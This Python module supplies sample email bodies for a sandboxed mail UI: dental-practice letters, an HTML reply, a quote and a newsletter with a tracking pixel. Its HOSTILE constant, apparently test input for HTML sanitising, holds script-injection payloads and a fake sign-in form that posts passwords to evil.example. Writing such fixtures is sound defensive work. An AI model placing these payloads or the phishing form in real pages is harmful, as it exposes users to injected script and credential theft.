"""The bodies of sample mail: newsletters, replies with quoted text, plain letters."""

from __future__ import annotations

from conversations_ui.sandbox.world import HERE

SUBJECTS = (
    "Your treatment plan and a question about the warranty",
    "Invoice INV-{code}",
    "Question before my first visit",
    "Your quote for {service}",
    "Forms for {day}",
    "📎 Insurance card, front and back",
)

PLAIN = (
    "Hello,\n\nplease find my insurance card attached. The group number is on the back.\n\n"
    "Does the two-year warranty still apply when another practice fitted the crown? I fly on the"
    " 2nd and would rather not look for a dentist there.\n\nBest regards\n{first}",
    "Hi {staff}\n\nThanks for moving me to the afternoon.\n\n{first}\n\n"
    "> On Thursday {business} wrote:\n> Please find your treatment plan below.\n> The crown"
    " carries a two-year warranty.",
    "Sent from my phone, please excuse the typos.\n\nYes to everything. https://example.com/map",
)

REPLY = """<div dir="auto"><p>Hi {staff},</p>
<p>Thank you for moving me to the afternoon. Two small questions before I come in:</p>
<ol><li>Does the warranty apply if another practice fitted it?</li>
<li>Should I stop taking ibuprofen the day before?</li></ol>
<p>All the best,<br>{first}</p></div>
<div class="gmail_quote"><div class="gmail_attr">On {day}, {business} &lt;hello@{domain}&gt; \
wrote:</div>
<blockquote class="gmail_quote" style="margin:0 0 0 8px;border-left:1px solid #ccc;\
padding-left:8px"><p>Dear {first}, please find your treatment plan below. The crown carries a \
two-year warranty.</p></blockquote></div>"""

OFFER = """<p>Dear {first},</p>
<p>Here is the quote you asked for:</p>
<table border="1" cellpadding="6" style="border-collapse:collapse">
<tr><th align="left">Item</th><th align="right">Price</th></tr>
<tr><td>{service}</td><td align="right">{price}</td></tr>
<tr><td>Check-up after four weeks</td><td align="right">included</td></tr></table>
<p>It stays good for 60 days. <a href="https://go.example/b/{code}">Accept it here</a>.</p>
<p>{staff}<br>{business}<br>{phone}</p>"""

NEWSLETTER = f"""<!doctype html><html><head><meta charset="utf-8">
<style>.head{{{{background:#0b6e75}}}} @media (max-width:600px){{{{p{{{{font-size:17px}}}}}}}}\
</style></head><body style="margin:0;background:#f2f4f5">
<div style="display:none">Your benefits end on 31 December</div>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial">
<tr><td class="head" style="background:#0b6e75;color:#ffffff;padding:24px">
<img src="{HERE}/attachments/mail/logo.png" width="120" height="80" alt="{{business}}">
<h1 style="margin:12px 0 0">Use your benefits before they end</h1></td></tr>
<tr><td style="padding:24px;background:#ffffff"><p>Hi {{first}},</p>
<p>most dental plans start again in January, and what you have not used is lost.</p>
<p><img src="{HERE}/attachments/mail/smile.jpg" width="480" height="320" alt="A smiling woman"></p>
<p><a href="https://go.example/b/{{code}}?utm_source=newsletter" style="background:#0b6e75;\
color:#ffffff;padding:12px 20px;text-decoration:none;border-radius:6px">Book now</a></p></td></tr>
<tr><td style="padding:16px;font-size:12px;color:#667">{{business}}, {{address}}<br>
<a href="https://go.example/unsubscribe/{{code}}">Unsubscribe</a></td></tr></table>
<img src="https://track.example/open.gif?m={{code}}" width="1" height="1" alt=""></body></html>"""

HOSTILE = """<p>Please look at this <b>urgent</b> document.</p>
<script>document.title = "owned"</script>
<img src="x" onerror="document.title='owned'">
<a href="javascript:document.title='owned'">Open the invoice</a>
<svg onload="document.title='owned'"><animate attributeName="x"/></svg>
<form action="https://evil.example/login"><input name="password" placeholder="Password">
<button>Sign in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position:fixed;inset:0;background:url(https://track.example/css.gif)">cover</div>
<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">"""
